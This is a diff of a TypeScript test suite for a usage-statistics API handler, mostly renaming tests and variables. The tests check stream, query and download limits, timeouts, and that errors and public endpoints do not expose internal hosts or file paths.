+  const CLIENTS = 10_000;
 
-  test(`${MANY} at once: the limit holds, the app answers, places are freed`, async () => {
+  test(`${CLIENTS} clients: are limited, do not block the app, and are released`, async () => {
     const MAX_STREAMS = 9_000;
-    const { port, request: ask } = await start(
+    const { port, request } = await start(
       { public: true, maxStreams: MAX_STREAMS },
-      { ...nothingStored(), status: () => statusOf() },
+      { ...emptySource(), status: () => statusOf() },
     );
     const before = process.memoryUsage().heapUsed;
     const program = new URL('open-streams.ts', import.meta.url).pathname;
-    const child = spawn(process.execPath, [program, String(port), String(MANY)], {
+    const child = spawn(process.execPath, [program, String(port), String(CLIENTS)], {
       stdio: ['pipe', 'pipe', 'inherit'],
     });
-    closing.push(() => child.kill());
+    cleanups.push(() => child.kill());
     const [line] = (await once(child.stdout, 'data')) as [Buffer];
-    expect(JSON.parse(line.toString())).toEqual({ 200: MAX_STREAMS, 503: MANY - MAX_STREAMS });
-    const begun = performance.now();
-    expect((await ask('/')).body.toString()).toBe('app');
-    expect(performance.now() - begun).toBeLessThan(1_000);
-    expect(codeOf(await ask('/usage/api/v1/live'))).toEqual([503, 'STREAMS_FULL']);
+    expect(JSON.parse(line.toString())).toEqual({ 200: MAX_STREAMS, 503: CLIENTS - MAX_STREAMS });
+    const began = performance.now();
+    expect((await request('/')).body.toString()).toBe('app');
+    expect(performance.now() - began).toBeLessThan(1_000);
+    expect(codeOf(await request('/usage/api/v1/live'))).toEqual([503, 'STREAMS_FULL']);
     expect(process.memoryUsage().heapUsed - before).toBeLessThan(200_000_000);
     child.stdin.end();
     await vi.waitFor(async () => {
@@ -752,9 +755,9 @@ describe('event streams', () => {
     }, 20_000);
   });
 
-  test('who does not read is let go', async () => {
+  test('are closed if the client does not read', async () => {
     const live = new LiveStreams(
-      { ...nothingStored(), status: () => statusOf({ captured: Math.random() }) },
+      { ...emptySource(), status: () => statusOf({ captured: Math.random() }) },
       10,
     );
     const response = Object.assign(new http.ServerResponse({ method: 'GET' } as http.IncomingMessage), {
@@ -767,27 +770,27 @@ describe('event streams', () => {
     expect(live.isFull).toBe(false);
   });
 
-  test('end when their server does', async () => {
-    const { server, port } = await start({ public: true }, { ...nothingStored(), status: () => statusOf() });
+  test('end when the server closes', async () => {
+    const { server, port } = await start({ public: true }, { ...emptySource(), status: () => statusOf() });
     const request = http.get({ host: HOST, port, path: '/usage/api/v1/live' });
     const [response] = await once(request, 'response');
     response.resume();
-    const begun = performance.now();
+    const began = performance.now();
     server.close();
     await once(server, 'close');
-    expect(performance.now() - begun).toBeLessThan(5_000);
+    expect(performance.now() - began).toBeLessThan(5_000);
   });
 
-  test('need permission, and a HEAD of one ends', async () => {
-    const { request: ask } = await start({ token: TOKEN });
-    expect((await ask('/usage/api/v1/live')).status).toBe(401);
-    expect((await ask('/usage/api/v1/live', { method: 'HEAD', headers: bearer() })).status).toBe(200);
+  test('require permission, and end immediately for HEAD', async () => {
+    const { request } = await start({ token: TOKEN });
+    expect((await request('/usage/api/v1/live')).status).toBe(401);
+    expect((await request('/usage/api/v1/live', { method: 'HEAD', headers: bearer() })).status).toBe(200);
   });
 });
 
-/** A storage that answers each question by `answer`. */
-function answering(answer: () => Promise<never>): HandlerSource {
-  const source = nothingStored();
+/** Returns a source that answers every query with `answer`. */
+function sourceWith(answer: () => Promise<never>): HandlerSource {
+  const source = emptySource();
   return { ...source, query: { site: answer, totals: answer, series: answer, top: answer, records: answer } };
 }
 
@@ -801,10 +804,10 @@ describe('a storage', () => {
     Object.assign(new Error(SECRET), { stack: `Error\n at /srv/app/${SECRET}` }),
     SECRET,
     null,
-  ])('that fails tells nothing of where it is: %s', async (error) => {
-    const { request: ask } = await start(
+  ])('that fails does not reveal its location: %s', async (error) => {
+    const { request } = await start(
       { token: TOKEN },
-      answering(() => Promise.reject(error)),
+      sourceWith(() => Promise.reject(error)),
     );
     for (const path of [
       'site',
@@ -815,19 +818,19 @@ describe('a storage', () => {
       'records?format=csv',
       'records?format=ndjson',
     ]) {
-      const answer = await ask(`/usage/api/v1/${path}`, { headers: bearer() });
+      const answer = await request(`/usage/api/v1/${path}`, { headers: bearer() });
       expect([path, ...codeOf(answer)]).toEqual([path, 503, 'STORAGE_SILENT']);
       expect(answer.body.toString()).not.toMatch(/hunter2|db\.internal|root|\/srv/);
     }
   });
 
-  test('that hangs: each question has a time limit, and not all of them run at once', async () => {
+  test('that hangs: queries time out, and the number of concurrent ones is limited', async () => {
     let running = 0;
-    let most = 0;
+    let maxRunning = 0;
     const release: (() => void)[] = [];
-    const hangs = answering(() => {
+    const hangs = sourceWith(() => {
       running += 1;
-      most = Math.max(most, running);
+      maxRunning = Math.max(maxRunning, running);
       return new Promise((_, reject) =>
         release.push(() => {
           running -= 1;
@@ -835,40 +838,42 @@ describe('a storage', () => {
         }),
       );
     });
-    const { request: ask } = await start({ public: true, maxQueries: 2, timeout: 500 }, hangs);
-    const begun = performance.now();
-    const answers = await Promise.all(Array.from({ length: 60 }, () => ask('/usage/api/v1/totals')));
-    const codes = answers.map((answer) => codeOf(answer).join(' '));
-    expect(most).toBe(2);
+    const { request } = await start({ public: true, maxQueries: 2, timeout: 500 }, hangs);
+    const began = performance.now();
+    const responses = await Promise.all(Array.from({ length: 60 }, () => request('/usage/api/v1/totals')));
+    const codes = responses.map((answer) => codeOf(answer).join(' '));
+    expect(maxRunning).toBe(2);
     // Two run, twelve times as many wait.
     expect(codes.filter((code) => code === '503 QUERY_SLOW')).toHaveLength(26);
     expect(codes.filter((code) => code === '503 QUERY_BUSY')).toHaveLength(34);
-    expect(answers.find((answer) => jsonOf(answer).code === 'QUERY_BUSY')!.headers['retry-after']).toBe('5');
-    expect(performance.now() - begun).toBeLessThan(10_000);
-    expect((await ask('/')).body.toString()).toBe('app');
-    // The database still works on them: nothing more is asked until it has ended.
-    expect(codeOf(await ask('/usage/api/v1/totals'))).toEqual([503, 'QUERY_SLOW']);
-    expect(most).toBe(2);
+    expect(responses.find((answer) => jsonOf(answer).code === 'QUERY_BUSY')!.headers['retry-after']).toBe(
+      '5',
+    );
+    expect(performance.now() - began).toBeLessThan(10_000);
+    expect((await request('/')).body.toString()).toBe('app');
+    // The database still works on them, so no other query starts before they have ended.
+    expect(codeOf(await request('/usage/api/v1/totals'))).toEqual([503, 'QUERY_SLOW']);
+    expect(maxRunning).toBe(2);
     for (const free of release.splice(0)) free();
-    const late = ask('/usage/api/v1/totals');
+    const late = request('/usage/api/v1/totals');
     await vi.waitFor(() => expect(release).toHaveLength(1));
     release[0]!();
     expect(codeOf(await late)).toEqual([503, 'STORAGE_SILENT']);
   });
 
-  test('whose questions are answered frees their places', async () => {
-    const { request: ask } = await start({ public: true, maxQueries: 1 });
-    const answers = await Promise.all(Array.from({ length: 10 }, () => ask('/usage/api/v1/totals')));
-    expect(answers.map(({ status }) => status)).toEqual(Array(10).fill(200));
+  test('that responds accepts further queries', async () => {
+    const { request } = await start({ public: true, maxQueries: 1 });
+    const responses = await Promise.all(Array.from({ length: 10 }, () => request('/usage/api/v1/totals')));
+    expect(responses.map(({ status }) => status)).toEqual(Array(10).fill(200));
   });
 });
 
 describe('downloads', () => {
   const row = { key: 'x'.repeat(4_000), hits: 1, transfer: 0, errors: 0, duration: 0, previous: null };
-  function endless(given: { rows?: number; fails?: number } = {}): HandlerSource & { asked: number } {
-    const source = Object.assign(nothingStored(), { asked: 0 });
+  function endlessSource(given: { rows?: number; fails?: number } = {}): HandlerSource & { calls: number } {
+    const source = Object.assign(emptySource(), { calls: 0 });
     const top = async (_summary: unknown, { page = 1 }: { page?: number } = {}) => {
-      source.asked += 1;
+      source.calls += 1;
       if (page === given.fails) throw new Error('secret');
       return { rows: Array(50_000).fill(row), timeZone: 'UTC' };
     };
@@ -876,9 +881,9 @@ describe('downloads', () => {
     return source;
   }
 
-  test('that nobody reads end, and are not more than a few', async () => {
-    const source = endless();
-    const { port, request: ask } = await start({ public: true, maxDownloads: 2, timeout: 500 }, source);
+  test('time out if the client does not read, and are limited in number', async () => {
+    const source = endlessSource();
+    const { port, request } = await start({ public: true, maxDownloads: 2, timeout: 500 }, source);
     const sockets = [];
     for (let i = 0; i < 2; i++) {
       const socket = await connect({ host: HOST, port, secure: false });
@@ -886,19 +891,19 @@ describe('downloads', () => {
       socket.write('GET /usage/api/v1/summaries/urls?format=csv HTTP/1.1\r\nHost: localhost\r\n\r\n');
       sockets.push(socket);
     }
-    await vi.waitFor(() => expect(source.asked).toBe(2));
-    expect(codeOf(await ask('/usage/api/v1/summaries/urls?format=csv'))).toEqual([503, 'DOWNLOADS_FULL']);
+    await vi.waitFor(() => expect(source.calls).toBe(2));
+    expect(codeOf(await request('/usage/api/v1/summaries/urls?format=csv'))).toEqual([503, 'DOWNLOADS_FULL']);
     await vi.waitFor(async () => {
-      const answer = await ask('/usage/api/v1/summaries/urls?format=csv', { method: 'HEAD' });
+      const answer = await request('/usage/api/v1/summaries/urls?format=csv', { method: 'HEAD' });
       expect(answer.status).toBe(200);
     }, 10_000);
-    expect(source.asked).toBeLessThan(10);
+    expect(source.calls).toBeLessThan(10);
     for (const socket of sockets) socket.destroy();
   });
 
-  test('whose client leaves midway end, and nothing is asked any more', async () => {
-    const source = endless();
-    const { port, request: ask } = await start({ public: true }, source);
+  test('stop querying if the client disconnects', async () => {
+    const source = endlessSource();
+    const { port, request } = await start({ public: true }, source);
     for (let i = 0; i < 10; i++) {
       const socket = await connect({ host: HOST, port, secure: false });
       socket.write('GET /usage/api/v1/summaries/urls?format=ndjson HTTP/1.1\r\nHost: localhost\r\n\r\n');
@@ -906,20 +911,22 @@ describe('downloads', () => {
       socket.resetAndDestroy();
     }
     await pause(200);
-    const { asked } = source;
+    const { calls } = source;
     await pause(200);
-    expect(source.asked).toBe(asked);
-    expect((await ask('/')).body.toString()).toBe('app');
+    expect(source.calls).toBe(calls);
+    expect((await request('/')).body.toString()).toBe('app');
   });
 
-  test('whose storage fails midway are not taken for whole ones', async () => {
-    const { request: ask } = await start({ public: true }, endless({ fails: 2 }));
-    await expect(ask('/usage/api/v1/summaries/urls?format=csv')).rejects.toThrow(/aborted|hang up|reset/i);
+  test('are aborted if the storage fails midway', async () => {
+    const { request } = await start({ public: true }, endlessSource({ fails: 2 }));
+    await expect(request('/usage/api/v1/summaries/urls?format=csv')).rejects.toThrow(
+      /aborted|hang up|reset/i,
+    );
   });
 });
 
-describe('what everybody may see', () => {
-  const ill = () =>
+describe('public access', () => {
+  const failingStatus = () =>
     statusOf({
       storages: [
         {
@@ -938,10 +945,10 @@ describe('what everybody may see', () => {
     });
   const SECRETS = /db\.internal|root|password|\/srv/;
 
-  test('names no host, user or file of the server', async () => {
-    const { request: ask, port } = await start({ public: true }, { ...nothingStored(), status: ill });
+  test('reveals no host, user or file of the server', async () => {
+    const { request, port } = await start({ public: true }, { ...emptySource(), status: failingStatus });
     for (const path of ['site', 'status']) {
-      const answer = await ask(`/usage/api/v1/${path}`);
+      const answer = await request(`/usage/api/v1/${path}`);
       expect(answer.body.toString()).not.toMatch(SECRETS);
       expect(jsonOf(answer).status).toMatchObject({
         storages: [{ storage: 'postgres', error: { code: null, message: 'unknown' } }],
@@ -954,30 +961,30 @@ describe('what everybody may see', () => {
     }
     const socket = await connect({ host: HOST, port, secure: false });
     socket.write('GET /usage/api/v1/live HTTP/1.1\r\nHost: localhost\r\n\r\n');
-    let said = '';
+    let received = '';
     socket.on('data', (piece) => {
-      said += piece;
+      received += piece;
     });
-    await vi.waitFor(() => expect(said).toContain('event: usage'), 5_000);
-    expect(said).not.toMatch(SECRETS);
+    await vi.waitFor(() => expect(received).toContain('event: usage'), 5_000);
+    expect(received).not.toMatch(SECRETS);
     socket.destroy();
   });
 
-  test('is said in full to who may look, but for the paths of the disk', async () => {
-    const { request: ask } = await start({ token: TOKEN }, { ...nothingStored(), status: ill });
-    const text = (await ask('/usage/api/v1/status', { headers: bearer() })).body.toString();
+  test('is restricted, while authorized clients see everything except file paths', async () => {
+    const { request } = await start({ token: TOKEN }, { ...emptySource(), status: failingStatus });
+    const text = (await request('/usage/api/v1/status', { headers: bearer() })).body.toString();
     expect(text).toContain('db.internal');
     expect(text).not.toContain('/srv');
   });
 
-  test('are no metrics, and no other site of the storage', async () => {
-    const source = { ...nothingStored(), metrics: () => 'storage="postgres://db.internal"' };
-    const { request: ask } = await start({ public: true }, source);
-    expect(codeOf(await ask('/usage/metrics'))).toEqual([403, 'METRICS_PRIVATE']);
+  test('excludes metrics and other sites of the storage', async () => {
+    const source = { ...emptySource(), metrics: () => 'storage="postgres://db.internal"' };
+    const { request } = await start({ public: true }, source);
+    expect(codeOf(await request('/usage/metrics'))).toEqual([403, 'METRICS_PRIVATE']);
     for (const path of ['site', 'totals', 'series', 'summaries/urls', 'records', 'records?format=csv']) {
       const and = path.includes('?') ? '&' : '?';
-      expect(codeOf(await ask(`/usage/api/v1/${path}${and}site=other`))).toEqual([403, 'SITE_REFUSED']);
-      expect((await ask(`/usage/api/v1/${path}${and}site=shop`)).status).toBe(200);
+      expect(codeOf(await request(`/usage/api/v1/${path}${and}site=other`))).toEqual([403, 'SITE_REFUSED']);
+      expect((await request(`/usage/api/v1/${path}${and}site=shop`)).status).toBe(200);
     }
     const guarded = await start({ token: TOKEN }, source);
     expect((await guarded.request('/usage/metrics', { headers: bearer() })).body.toString()).toContain(
@@ -987,19 +994,19 @@ describe('what everybody may see', () => {
 });
 
 describe('an error in the handler', () => {
-  test('is an answer, and never the app’s', async () => {
+  test('responds with a problem and never reaches the app', async () => {
     const source = {
-      ...nothingStored(),
+      ...emptySource(),
       status: () => {
         throw new Error('secret of status');
       },
     };
-    const { request: ask } = await start({ public: true }, source);
-    const answer = await ask('/usage/api/v1/status');
+    const { request } = await start({ public: true }, source);
+    const answer = await request('/usage/api/v1/status');
     expect(answer.status).toBe(503);
     expect(answer.body.toString()).not.toContain('secret');
     const metrics = {
-      ...nothingStored(),
+      ...emptySource(),
       metrics: () => {
         throw new Error('secret of metrics');
       },
@@ -1008,17 +1015,17 @@ describe('an error in the handler', () => {
     const failed = await other.request('/usage/metrics', { headers: bearer() });
     expect(codeOf(failed)).toEqual([500, 'HANDLER_FAILED']);
     expect(failed.body.toString()).not.toContain('secret');
-    expect((await ask('/')).body.toString()).toBe('app');
+    expect((await request('/')).body.toString()).toBe('app');
   });
 
-  test('does not meet an answer that the app has begun', async () => {
+  test('does not affect a response that the app has started', async () => {
     const { handler } = await start({ token: TOKEN });
     const server = http.createServer((request, response) => {
       response.writeHead(200).write('begun');
       handler(request, response);
     });
-    await listening(server.listen(0, HOST));
-    closing.push(() => server.close());
+    await whenListening(server.listen(0, HOST));
+    cleanups.push(() => server.close());
     const { port } = server.address() as AddressInfo;
     await exchange({ host: HOST, port, secure: false }, 'GET /usage/api/v1/site HTTP/1.0\r\n\r\n');
   });
